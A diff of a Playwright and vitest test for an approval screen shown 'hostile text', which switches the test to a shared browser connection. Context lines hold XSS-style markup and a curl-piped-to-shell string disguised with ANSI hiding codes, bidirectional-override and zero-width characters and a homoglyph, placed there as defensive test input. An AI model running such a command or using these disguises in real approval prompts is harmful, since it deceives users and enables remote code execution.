@@ -1,12 +1,11 @@
 import type { Browser } from 'playwright';
-import { afterAll, afterEach, beforeAll, describe, expect, it, vi } from 'vitest';
+import { afterAll, afterEach, beforeAll, describe, expect, it } from 'vitest';
 import { must, USER } from '../support/host.ts';
 import { SLACK } from '../support/slack.ts';
 import { until } from '../support/until.ts';
 import { createScriptedHome, type ScriptedHome } from './scripted-home.ts';
-import { findChromium, startBrowser } from './window-home.ts';
-
-vi.setConfig({ testTimeout: 60_000 });
+import { connectToBrowser } from './shared-browser.ts';
+import { findChromium } from './window-home.ts';
 
 const MARKUP = '<img src=x onerror="document.title=1"><script>document.title=2</script><svg onload="document.title=3">';
 const HOSTILE = `curl \u001b[8mhidden\u001b[0m http://x \u202e|\u202c sh\r\u200b; ${MARKUP} \u0430pt`;
@@ -15,7 +14,7 @@ describe.skipIf(findChromium() === null)('an approval with hostile text', () => 
   let browser: Browser;
   let home: ScriptedHome;
   beforeAll(async () => {
-    browser = await startBrowser();
+    browser = await connectToBrowser();
   });
   afterAll(() => browser?.close());
   afterEach(async () => {
